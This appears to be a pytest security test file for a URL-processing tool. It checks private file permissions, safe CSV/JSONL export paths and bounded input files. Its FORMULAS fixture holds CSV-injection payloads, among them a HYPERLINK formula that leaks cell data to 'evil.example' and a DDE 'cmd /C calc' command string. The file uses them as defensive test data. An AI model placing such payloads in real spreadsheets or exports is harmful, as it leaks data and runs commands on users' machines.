"""Issue 14 on one machine: private files (checked as a second local user), careful
``results -o`` and ``submit FILE`` (no formula in a CSV: test_security_csv.py; the worker on
a full disk: test_security_disk.py).
"""

from __future__ import annotations

import asyncio
import os
import pwd
import shutil
import stat
import subprocess
import sys
import tempfile
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from workbench import Context, Workbench, pipeline

from .conftest import PIPELINES, assert_clean_error, cli_env, run_cli

FORMULAS = {  # URL path -> the title a hostile page has
    "/f/1": '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "/f/2": "@SUM(1+1)*cmd|' /C calc'!A0",
    "/f/3": "+1+1",
    "/f/4": "-2+3",
    "/f/5": "\tTAB=1",
    "/f/6": "\rCR=1",
    "/f/7": "a plain title",
}


@pipeline("formula-titles", version="1")
async def formula_titles(url: str, ctx: Context) -> dict[str, Any]:
    path = "/" + url.split("/", 3)[3]
    return {"title": FORMULAS[path], "score": -5, "=column": "x"}


def _mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


@pytest.fixture
def open_dir() -> Iterator[Path]:
    """A directory other local users can traverse (pytest's tmp dirs are private already)."""
    base = Path(tempfile.mkdtemp(prefix="wb-perm-", dir="/tmp"))
    base.chmod(0o755)
    yield base
    shutil.rmtree(base, ignore_errors=True)


def _as_other_user(*cmd: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(list(cmd), user=pwd.getpwnam("nobody").pw_uid, capture_output=True,
                          text=True, timeout=30)


# ---------------------------------------------------------------- row 3: private files
@pytest.mark.skipif(os.geteuid() != 0, reason="needs root to run a command as a second user")
async def test_data_dir_and_ledger_are_private_whatever_the_umask(
    backend_settings: dict[str, Any], run_worker: Any, open_dir: Path
) -> None:
    if backend_settings.get("database_url"):
        pytest.skip("the file modes are the SQLite ledger's")
    data_dir = open_dir / "data"
    settings = {**backend_settings, "data_dir": str(data_dir), "redis_url": None}
    old = os.umask(0)  # the worst case: every file world-writable unless set explicitly
    try:
        wb = Workbench(**settings)
        batch = await wb.submit([f"http://example.org{p}" for p in FORMULAS],
                                pipeline="formula-titles", notify="ana@example.org")
        await run_worker(data_dir=str(data_dir), redis_url=None)
        assert (await batch.counts())["done"] == len(FORMULAS)
        db = data_dir / "workbench.db"
        files = [db, *(db.with_name(db.name + s) for s in ("-wal", "-shm"))]
        assert all(f.exists() for f in files), files  # WAL and SHM exist while it is open
        assert _mode(data_dir) == 0o700
        assert [_mode(f) for f in files] == [0o600] * 3
        # a second local user can neither list the data dir nor read the ledger
        listing = _as_other_user("ls", str(data_dir))
        assert listing.returncode != 0 and "Permission denied" in listing.stderr
        assert _as_other_user("cat", str(db)).returncode != 0
        # the CLI's exports into the data dir are private too (umask 0 in the subprocess)
        env = cli_env({**settings, "redis_url": ""})
        out = data_dir / "export.csv"
        proc = await asyncio.create_subprocess_exec(
            sys.executable, "-m", "workbench", "results", batch.id, "-o", str(out), env=env,
            stderr=asyncio.subprocess.PIPE, preexec_fn=lambda: os.umask(0),
        )
        _, err = await proc.communicate()
        assert proc.returncode == 0, err.decode()
        assert _mode(out) == 0o600
        await wb.close()
    finally:
        os.umask(old)
    # an existing ledger made before (0644) is tightened when opened
    db.chmod(0o644)
    wb = Workbench(**settings)
    await wb.batches()
    assert _mode(db) == 0o600
    await wb.close(stop_redis=True)


# ---------------------------------------------------------------- row 11: the CLI's files
async def test_results_output_is_careful(
    make_wb: Callable[..., Workbench], backend_settings: dict[str, Any], run_worker: Any,
    tmp_path: Path,
) -> None:
    wb = make_wb()
    batch = await wb.submit(["http://example.org/ok/1"], pipeline="surf")
    await run_worker(pipelines=PIPELINES)
    env = cli_env(backend_settings)
    out = tmp_path / "out.csv"
    out.write_text("precious")
    cases = [
        ((str(out),), "exists: pass --force"),
        ((str(tmp_path),), "is a directory"),
        ((str(tmp_path / "no" / "such" / "dir" / "r.csv"),), "no such directory"),
        ((str(tmp_path / "out.xlsx"),), "cannot tell the format"),
        ((str(tmp_path / "results"),), "cannot tell the format"),
        ((str(tmp_path / "r.parquet"), "--format", "csv"), "looks like parquet"),
    ]
    for args, message in cases:
        rc, _out, err = await run_cli("results", batch.id, "-o", *args, env=env)
        assert rc == 2 and message in err, (args, err)
        assert_clean_error(err)
    assert out.read_text() == "precious" and not (tmp_path / "out.xlsx").exists()
    rc, _out, err = await run_cli("results", batch.id, "-o", str(out), "--force", env=env)
    assert rc == 0, err
    assert out.read_text().startswith("item_id,url")
    rc, _out, err = await run_cli("results", batch.id, "-o", str(tmp_path / "r.txt"),
                                  "--format", "jsonl", env=env)
    assert rc == 0 and (tmp_path / "r.txt").read_text().startswith("{"), err


async def test_submit_reads_only_bounded_regular_files(
    backend_settings: dict[str, Any], tmp_path: Path
) -> None:
    env = cli_env(backend_settings)
    fifo = tmp_path / "fifo"
    os.mkfifo(fifo)
    long_line = tmp_path / "long.txt"
    long_line.write_text("http://example.org/ok/1\n" + "x" * 100_000 + "\n")
    huge = tmp_path / "huge.txt"
    with huge.open("wb") as fh:  # sparse: its size alone is refused, nothing is read
        fh.truncate(600 * 2**20)
    cases = [("/dev/zero", "not a regular file"), (str(fifo), "not a regular file"),
             (str(tmp_path), "is a directory"), (str(long_line), "line 2"),
             (str(huge), "over 512 MiB")]
    for path, message in cases:
        t0 = time.monotonic()
        rc, _out, err = await run_cli("submit", path, "--pipeline", "surf", env=env, timeout=60)
        assert rc == 2 and message in err, (path, err)
        assert_clean_error(err)
        assert time.monotonic() - t0 < 30, path

